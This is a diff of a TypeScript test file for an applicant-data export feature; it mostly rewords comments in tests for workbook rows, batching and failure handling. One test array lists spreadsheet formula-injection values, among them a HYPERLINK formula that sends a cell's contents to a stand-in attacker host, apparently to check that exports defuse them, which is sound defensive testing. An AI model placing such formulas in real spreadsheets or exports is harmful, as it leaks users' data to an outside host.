@@ -131,7 +131,6 @@ test('B3 the workbook has the rows of the CSV, and its name', async () => {
   expect(rows[1]!.filter((cell) => cell instanceof Date)).toHaveLength(1);
 });
 
-/** These include formula injections and ordinary names. */
 const dangerous = [
   '=HYPERLINK("https://evil.example?"&A1,"x")',
   '+1+1',
@@ -213,7 +212,7 @@ test('a question without text has a header all the same', async () => {
 test('many applicants come batch by batch, each once, also those who applied in one moment', async () => {
   const study = await makePublished(app, researcher, { projectId });
   const ids = await addApplicants(app, study.id, 450);
-  // These differ only by microseconds, which a Date drops.
+  // A Date drops these microseconds.
   await sql`
     update project.applications set applied_at = applied_at + (abs(hashtext(application_id::text)) % 7) * interval '1 microsecond',
       remarks = application_id::text
@@ -222,14 +221,13 @@ test('many applicants come batch by batch, each once, also those who applied in 
   const remarks = header.indexOf(applicantWords.file.columns.remarks);
   expect(lines).toHaveLength(ids.length);
   expect(new Set(lines.map((line) => line[remarks]))).toEqual(new Set(ids));
-  // The applicants have no accounts, as after a deletion.
   expect(new Set(lines.map((line) => line.slice(1, 3).join()))).toEqual(new Set([',']));
 });
 
 test('a file that fails under way breaks off', async () => {
   const study = await makePublished(app, researcher, { projectId });
   const ids = await addApplicants(app, study.id, 150);
-  // The second batch fails on a choice outside the enumeration.
+  // This invalid choice is in the second batch.
   await sql`
     update project.applications set applied_at = '2020-01-01', gender_bit = 64
     where application_id = ${ids[0]}`.execute(app.engine.owner);
